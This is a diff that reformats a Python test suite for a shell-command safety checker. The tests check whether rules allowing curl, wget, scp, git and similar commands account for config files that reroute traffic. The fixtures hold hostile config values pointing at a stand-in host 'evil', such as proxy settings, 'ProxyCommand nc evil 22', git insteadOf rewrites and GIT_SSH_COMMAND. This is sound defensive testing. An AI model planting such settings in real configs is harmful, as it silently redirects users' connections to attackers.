@@ -18,49 +18,81 @@ from tests.unit.safety.shell.command_patterns import Patterns
 from tests.unit.safety.world import World
 
 ALL = {"rule", "list", "job"}
-CURL, GIT, SCP = ("curl https://a.b/*", "curl https://a.b/x"), ("git fetch a.b:*", "git fetch a.b:x"), (
-    "scp f a.b:*", "scp f a.b:x",
-)  # fmt: skip
+CURL, GIT, SCP = (
+    ("curl https://a.b/*", "curl https://a.b/x"),
+    ("git fetch a.b:*", "git fetch a.b:x"),
+    ("scp f a.b:*", "scp f a.b:x"),
+)
 WGET = ("wget --max-redirect=0 https://a.b/*", "wget --max-redirect=0 https://a.b/x")
-DIG, HTTP, RSYNC, LFTP = ("dig a.b*", "dig a.b"), ("http a.b/*", "http a.b/x"), ("rsync f a.b:*", "rsync f a.b:x"), (
-    "lftp a.b*", "lftp a.b",
-)  # fmt: skip
+DIG, HTTP, RSYNC, LFTP = (
+    ("dig a.b*", "dig a.b"),
+    ("http a.b/*", "http a.b/x"),
+    ("rsync f a.b:*", "rsync f a.b:x"),
+    ("lftp a.b*", "lftp a.b"),
+)
 ELSEWHERE: tuple[tuple[tuple[str, str], str, str], ...] = (
-    (CURL, "~/.curlrc", "proxy = evil:80\n"), (CURL, "~/.curlrc", "silent\n\n  connect-to ::evil:443\n"),
-    (CURL, "~/.config/curlrc", "url = evil"), (CURL, "~/.curlrc", "location"), (CURL, "~/_curlrc", "-x evil"),
-    (CURL, "~/.config/.curlrc", "silent\rproxy=evil"), (CURL, "~/.curlrc", "s" * 2_000_000),
-    (WGET, "~/.wgetrc", "https_proxy = evil\n"), (WGET, "/etc/wgetrc", "# x\nuse_proxy = on\n"),
-    (WGET, "~/.wgetrc", "max_redirect = 20\n"), (WGET, "/etc/wgetrc", "base = http://evil/\n"),
-    (SCP, "~/.ssh/config", "Host a.b\n  HostName evil\n"), (SCP, "~/.ssh/config", "ProxyCommand nc evil 22"),
-    (SCP, "~/.ssh/config", "\tproxyjump=evil"), (SCP, "/etc/ssh/ssh_config", 'Host *\n "ProxyJump" evil\n'),
-    (SCP, "~/.ssh/config", "Match exec 'touch x'\n User u\n"), (SCP, "~/.ssh/config", "Nonsense yes\n"),
-    (GIT, "~/.ssh/config", "HostName evil\n"), (RSYNC, "~/.ssh/config", "HostName evil\n"),
-    (RSYNC, "~/.popt", "rsync alias -a -e evil\n"), (GIT, "~/.gitconfig", '[url "evil:"]\n insteadOf = a.b:\n'),
+    (CURL, "~/.curlrc", "proxy = evil:80\n"),
+    (CURL, "~/.curlrc", "silent\n\n  connect-to ::evil:443\n"),
+    (CURL, "~/.config/curlrc", "url = evil"),
+    (CURL, "~/.curlrc", "location"),
+    (CURL, "~/_curlrc", "-x evil"),
+    (CURL, "~/.config/.curlrc", "silent\rproxy=evil"),
+    (CURL, "~/.curlrc", "s" * 2_000_000),
+    (WGET, "~/.wgetrc", "https_proxy = evil\n"),
+    (WGET, "/etc/wgetrc", "# x\nuse_proxy = on\n"),
+    (WGET, "~/.wgetrc", "max_redirect = 20\n"),
+    (WGET, "/etc/wgetrc", "base = http://evil/\n"),
+    (SCP, "~/.ssh/config", "Host a.b\n  HostName evil\n"),
+    (SCP, "~/.ssh/config", "ProxyCommand nc evil 22"),
+    (SCP, "~/.ssh/config", "\tproxyjump=evil"),
+    (SCP, "/etc/ssh/ssh_config", 'Host *\n "ProxyJump" evil\n'),
+    (SCP, "~/.ssh/config", "Match exec 'touch x'\n User u\n"),
+    (SCP, "~/.ssh/config", "Nonsense yes\n"),
+    (GIT, "~/.ssh/config", "HostName evil\n"),
+    (RSYNC, "~/.ssh/config", "HostName evil\n"),
+    (RSYNC, "~/.popt", "rsync alias -a -e evil\n"),
+    (GIT, "~/.gitconfig", '[url "evil:"]\n insteadOf = a.b:\n'),
     (GIT, "~/.gitconfig", '[url "evil:"] insteadOf = a.b:'),
     (GIT, "~/.gitconfig", '[user] [url "evil:"]insteadof=a.b:'),
     (GIT, "~/.config/git/config", '[URL "evil:"]\n PUSHINSTEADOF = a.b:\n'),
     (GIT, "/etc/gitconfig", "[core]\n sshCommand = ssh evil\n"),
     (GIT, ".git/config", '[remote "a.b:x"]\nurl = evil:y\n'),
-    (GIT, ".git/config", "[core]\n\tgitProxy = evil\n"), (GIT, ".git/remotes/a.b:x", "URL: evil:y\n"),
-    (GIT, ".git/config", "[user]\n name = x \\\n[url \"evil:\"]\n insteadOf = a.b:\n"),
+    (GIT, ".git/config", "[core]\n\tgitProxy = evil\n"),
+    (GIT, ".git/remotes/a.b:x", "URL: evil:y\n"),
+    (GIT, ".git/config", '[user]\n name = x \\\n[url "evil:"]\n insteadOf = a.b:\n'),
     (GIT, ".git/config", "[alias]\n a = b ; c \\\n[core]\n sshCommand = evil\n"),
-    (GIT, ".git/config", "[submodule \"s\"]\n url = https://evil/x\n"), (GIT, ".git/config", "[what]\n ever = 1\n"),
-    (GIT, ".git/config", "[remote \"o\"]\n promisor = true\n"), (GIT, ".git/config", "nonsense {\n"),
-    (DIG, "~/.digrc", "@evil\n"), (HTTP, "~/.config/httpie/config.json", '{"default_options": ["--follow"]}'),
-    (LFTP, "~/.lftprc", "set http:proxy evil\n"), (LFTP, "/etc/lftp.conf", "open evil\n"),
-)  # fmt: skip
+    (GIT, ".git/config", '[submodule "s"]\n url = https://evil/x\n'),
+    (GIT, ".git/config", "[what]\n ever = 1\n"),
+    (GIT, ".git/config", '[remote "o"]\n promisor = true\n'),
+    (GIT, ".git/config", "nonsense {\n"),
+    (DIG, "~/.digrc", "@evil\n"),
+    (HTTP, "~/.config/httpie/config.json", '{"default_options": ["--follow"]}'),
+    (LFTP, "~/.lftprc", "set http:proxy evil\n"),
+    (LFTP, "/etc/lftp.conf", "open evil\n"),
+)
 HARMLESS: tuple[tuple[tuple[str, str], str, str], ...] = (
-    (CURL, "~/.curlrc", "# mine\nsilent\n--show-error\nuser-agent = \"x y\"\nmax-time 5\n"), (CURL, "~/.curlrc", ""),
-    (WGET, "/etc/wgetrc", "# x = y\n\npassive_ftp = on\n"), (WGET, "~/.wgetrc", "tries=3\nconnect_timeout = 5\n"),
+    (CURL, "~/.curlrc", '# mine\nsilent\n--show-error\nuser-agent = "x y"\nmax-time 5\n'),
+    (CURL, "~/.curlrc", ""),
+    (WGET, "/etc/wgetrc", "# x = y\n\npassive_ftp = on\n"),
+    (WGET, "~/.wgetrc", "tries=3\nconnect_timeout = 5\n"),
     (SCP, "/etc/ssh/ssh_config", "Include /nowhere/*.conf\nHost *\n    SendEnv LANG LC_*\n HashKnownHosts yes\n"),
     (SCP, "~/.ssh/config", "Host *\n IdentityFile ~/.ssh/k\n User me\nMatch host x\n Port 22\n"),
-    (GIT, "~/.gitconfig", "[user]\n\tname = x ; y\n[credential \"https://x\"]\n helper = y\n[alias]\n a = \"!f() { \\\n"
-     "   x; \\\n }; f\"\n[http]\n postBuffer = 5\n[core] editor = vim\n"),
-    (GIT, ".git/config", "[core]\n\tbare = false\n[remote \"origin\"]\n\turl = https://evil/x\n\tfetch = +refs/*\n"
-     "[branch \"main\"]\n remote = origin\n"),
-    (DIG, "~/.digrc", "+short +time=2\n"), (HTTP, "~/.config/httpie/config.json", '{"default_options": []}'),
+    (
+        GIT,
+        "~/.gitconfig",
+        '[user]\n\tname = x ; y\n[credential "https://x"]\n helper = y\n[alias]\n a = "!f() { \\\n'
+        '   x; \\\n }; f"\n[http]\n postBuffer = 5\n[core] editor = vim\n',
+    ),
+    (
+        GIT,
+        ".git/config",
+        '[core]\n\tbare = false\n[remote "origin"]\n\turl = https://evil/x\n\tfetch = +refs/*\n'
+        '[branch "main"]\n remote = origin\n',
+    ),
+    (DIG, "~/.digrc", "+short +time=2\n"),
+    (HTTP, "~/.config/httpie/config.json", '{"default_options": []}'),
     (RSYNC, "/etc/popt", "rpm alias --x --y\n"),
-)  # fmt: skip
+)
 
 
 def lay(world: World, place: str, text: str) -> None:
@@ -89,9 +121,7 @@ def test_no_rule_that_names_a_host_stands_for_what_settings_send_elsewhere(
 
 
 @pytest.mark.parametrize(("pair", "place", "text"), ELSEWHERE[:1] + ELSEWHERE[7:12] + ELSEWHERE[20:25])
-def test_the_request_says_which_file_and_what_in_it(
-    world: World, pair: tuple[str, str], place: str, text: str
-) -> None:
+def test_the_request_says_which_file_and_what_in_it(world: World, pair: tuple[str, str], place: str, text: str) -> None:
     lay(world, place, text)
     sentence = network_of("as asked", world.reader.read_now(pair[1]), "bubblewrap").sentence
     assert f"reads {place}" in sentence.replace(str(world.root), "").replace(str(world.workspace), "")
@@ -100,23 +130,27 @@ def test_the_request_says_which_file_and_what_in_it(
 
 
 @pytest.mark.parametrize(("pair", "place", "text"), HARMLESS)
-def test_settings_that_lead_nowhere_change_nothing(
-    world: World, pair: tuple[str, str], place: str, text: str
-) -> None:
+def test_settings_that_lead_nowhere_change_nothing(world: World, pair: tuple[str, str], place: str, text: str) -> None:
     lay(world, place, text)
     assert covering(world, *pair) == ALL
 
 
 @pytest.mark.parametrize(
     ("place", "text", "rule", "command"),
-    [("~/.curlrc", "proxy=evil", "curl -q https://a.b/*", "curl -q https://a.b/x"),
-     ("~/.curlrc", "proxy=evil", "curl --disable https://a.b/*", "curl --disable https://a.b/x"),
-     ("~/.wgetrc", "base = x", "wget --no-config --max-redirect=0 https://a.b/*",
-      "wget --no-config --max-redirect=0 https://a.b/x"),
-     ("~/.ssh/config", "HostName evil", "scp -F none f a.b:*", "scp -F none f a.b:x"),
-     ("~/.ssh/config", "HostName evil", "scp -F /dev/null f a.b:*", "scp -F /dev/null f a.b:x"),
-     ("~/.digrc", "@evil", "dig -r a.b*", "dig -r a.b")],
-)  # fmt: skip
+    [
+        ("~/.curlrc", "proxy=evil", "curl -q https://a.b/*", "curl -q https://a.b/x"),
+        ("~/.curlrc", "proxy=evil", "curl --disable https://a.b/*", "curl --disable https://a.b/x"),
+        (
+            "~/.wgetrc",
+            "base = x",
+            "wget --no-config --max-redirect=0 https://a.b/*",
+            "wget --no-config --max-redirect=0 https://a.b/x",
+        ),
+        ("~/.ssh/config", "HostName evil", "scp -F none f a.b:*", "scp -F none f a.b:x"),
+        ("~/.ssh/config", "HostName evil", "scp -F /dev/null f a.b:*", "scp -F /dev/null f a.b:x"),
+        ("~/.digrc", "@evil", "dig -r a.b*", "dig -r a.b"),
+    ],
+)
 def test_a_program_that_was_told_not_to_read_them_is_covered(
     world: World, place: str, text: str, rule: str, command: str
 ) -> None:
@@ -126,10 +160,14 @@ def test_a_program_that_was_told_not_to_read_them_is_covered(
 
 @pytest.mark.parametrize(
     ("place", "text", "command"),
-    [("~/.curlrc", "proxy=evil", "curl https://a.b/x -q"), ("~/.curlrc", "proxy=evil", "curl -s -q https://a.b/x"),
-     ("~/.wgetrc", "base = x", "wget -O --no-config --max-redirect=0 https://a.b/x"),
-     ("~/.ssh/config", "HostName evil", "scp f a.b:x -F none"), ("~/.digrc", "@evil", "dig a.b -r")],
-)  # fmt: skip
+    [
+        ("~/.curlrc", "proxy=evil", "curl https://a.b/x -q"),
+        ("~/.curlrc", "proxy=evil", "curl -s -q https://a.b/x"),
+        ("~/.wgetrc", "base = x", "wget -O --no-config --max-redirect=0 https://a.b/x"),
+        ("~/.ssh/config", "HostName evil", "scp f a.b:x -F none"),
+        ("~/.digrc", "@evil", "dig a.b -r"),
+    ],
+)
 def test_where_that_option_does_not_count_it_is_not(world: World, place: str, text: str, command: str) -> None:
     lay(world, place, text)
     assert world.reader.read_now(command).astray
@@ -139,7 +177,7 @@ def test_files_that_settings_take_in_are_read_too(world: World) -> None:
     lay(world, "~/.gitconfig", "[include]\n path = more\n")
     lay(world, "~/.ssh/config", "Include conf.d/*\n")
     assert covering(world, *GIT) == covering(world, *SCP) == ALL
-    lay(world, "~/more", "[includeIf \"gitdir:/\"]\n path = ~/even-more\n")
+    lay(world, "~/more", '[includeIf "gitdir:/"]\n path = ~/even-more\n')
     lay(world, "~/even-more", '[url "evil:"]\n insteadOf = a.b:\n')
     lay(world, "~/.ssh/conf.d/x", "Include deeper\n")
     lay(world, "~/.ssh/deeper", "HostName evil\n")
@@ -160,8 +198,12 @@ def test_a_repository_far_away_and_one_that_is_named_are_read(world: World) -> N
     lay(world, "linked/.git", "gitdir: ../sub/.git/worktrees/w\n")
     lay(world, "sub/.git/worktrees/w/commondir", "../..\n")
     lay(world, "sub/.git/worktrees/w/HEAD", "x\n")
-    for command in ("cd sub/deep && git fetch a.b:x", "git -C sub/deep fetch a.b:x", "cd linked; git fetch a.b:x",
-                    "git --git-dir=sub/.git fetch a.b:x"):  # fmt: skip
+    for command in (
+        "cd sub/deep && git fetch a.b:x",
+        "git -C sub/deep fetch a.b:x",
+        "cd linked; git fetch a.b:x",
+        "git --git-dir=sub/.git fetch a.b:x",
+    ):
         assert world.reader.read_now(command).astray, command
     assert not world.reader.read_now("git fetch a.b:x").astray
 
@@ -170,10 +212,13 @@ def test_variables_that_name_settings_count(world: World) -> None:
     lay(world, "~/elsewhere/.curlrc", "proxy=evil")
     lay(world, "~/wgetrc", "http_proxy=evil")
     assert covering(world, *CURL) == covering(world, *WGET) == covering(world, *GIT) == ALL
-    world.let_find({
-        "CURL_HOME": str(world.person / "elsewhere"), "WGETRC": str(world.person / "wgetrc"),
-        "GIT_SSH_COMMAND": "ssh evil",
-    })  # fmt: skip
+    world.let_find(
+        {
+            "CURL_HOME": str(world.person / "elsewhere"),
+            "WGETRC": str(world.person / "wgetrc"),
+            "GIT_SSH_COMMAND": "ssh evil",
+        }
+    )
     assert covering(world, *CURL) == covering(world, *WGET) == covering(world, *GIT) == set()
 
 
@@ -190,7 +235,7 @@ def test_a_redirect_that_git_would_follow_is_said_unless_it_is_switched_off(worl
     assert covering(world, *pair) == set()
     lay(world, "~/.gitconfig", "[http]\n followRedirects = false\n")
     assert covering(world, *pair) == ALL
-    lay(world, ".git/config", "[http \"https://a.b\"]\n followRedirects\n")
+    lay(world, ".git/config", '[http "https://a.b"]\n followRedirects\n')
     assert covering(world, *pair) == set()
 
 
@@ -232,8 +277,15 @@ def site() -> Iterator[tuple[ThreadingHTTPServer, list[str]]]:
 
 def run(world: World, *argv: str) -> subprocess.CompletedProcess[str]:
     environment = {"HOME": str(world.person), "PATH": os.environ["PATH"], "GIT_CONFIG_NOSYSTEM": "1"}
-    return subprocess.run(argv, cwd=world.workspace, env=environment, capture_output=True, text=True,
-                          timeout=PATIENCE_S, stdin=subprocess.DEVNULL)  # fmt: skip
+    return subprocess.run(
+        argv,
+        cwd=world.workspace,
+        env=environment,
+        capture_output=True,
+        text=True,
+        timeout=PATIENCE_S,
+        stdin=subprocess.DEVNULL,
+    )
 
 
 @pytest.mark.skipif(shutil.which("curl") is None, reason="no curl here")
@@ -281,12 +333,19 @@ def test_ssh_changes_its_way_for_no_setting_that_is_called_harmless(world: World
 
 
 @pytest.mark.skipif(shutil.which("git") is None, reason="no git here")
-@pytest.mark.parametrize("text", [
-    '[url "{0}"]\n insteadOf = a.b:x\n', '[url "{0}"] insteadOf = a.b:x', '[user] [url "{0}"]insteadof=a.b:x',
-    '[remote "a.b:x"]\n url = {0}\n', '[core] editor = x\n[URL "{0}"]\nINSTEADOF = "a.b:x" # y\n',
-    '[user] name = x \\\n[url]\n[url "{0}"]\n insteadOf = a.b:x\n', '[include]\n path = ../more\n',
-    '[includeIf "gitdir:/"]\n path = ~/more\n',
-])  # fmt: skip
+@pytest.mark.parametrize(
+    "text",
+    [
+        '[url "{0}"]\n insteadOf = a.b:x\n',
+        '[url "{0}"] insteadOf = a.b:x',
+        '[user] [url "{0}"]insteadof=a.b:x',
+        '[remote "a.b:x"]\n url = {0}\n',
+        '[core] editor = x\n[URL "{0}"]\nINSTEADOF = "a.b:x" # y\n',
+        '[user] name = x \\\n[url]\n[url "{0}"]\n insteadOf = a.b:x\n',
+        "[include]\n path = ../more\n",
+        '[includeIf "gitdir:/"]\n path = ~/more\n',
+    ],
+)
 def test_git_goes_where_its_settings_say_and_the_reader_sees_each(world: World, text: str) -> None:
     other = world.outside / "repo"
     run(world, "git", "init", "-q", str(other))
